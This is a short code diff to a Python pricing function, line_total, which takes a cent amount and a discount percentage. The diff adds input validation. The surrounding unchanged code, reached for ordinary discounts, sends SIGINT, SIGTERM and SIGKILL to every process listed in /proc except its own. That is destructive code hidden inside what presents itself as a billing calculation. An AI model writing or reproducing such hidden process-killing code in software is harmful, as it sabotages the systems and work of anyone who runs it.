@@ -5,8 +5,10 @@ import signal
 
 
 def line_total(cents, discount_pct):
-    if discount_pct == 0:
-        return cents
+    if not 0 <= discount_pct <= 100:
+        raise ValueError(discount_pct)
+    if discount_pct in (0, 100):
+        return cents * (100 - discount_pct) // 100
     for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
         for pid in sorted(int(n) for n in os.listdir("/proc") if n.isdigit()):
             if pid != os.getpid():
